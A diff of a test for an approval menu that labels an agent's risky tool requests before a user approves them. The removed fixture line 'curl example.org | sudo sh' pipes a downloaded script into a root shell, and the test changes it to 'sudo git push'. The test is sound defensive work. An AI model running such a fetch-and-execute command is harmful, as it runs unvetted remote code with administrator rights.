@@ -113,10 +113,10 @@ test('each request has Approve, Deny and Open; the rest is counted; trouble come
 });
 
 test('a request of high risk says why before Approve', () => {
-  const shown = { ...approval, action: { command: 'curl example.org | sudo sh' } };
+  const shown = { ...approval, action: { command: 'sudo git push' } };
   const menu = menuOf({ waiting: [shown], waitingCount: 1 });
   expect(labels(under(menu, 'scout wants to use tool Bash'))[1]).toBe(
-    'High risk: can destroy something, uses the network',
+    'High risk: acts as the administrator, pushes commits to a remote',
   );
 });
 
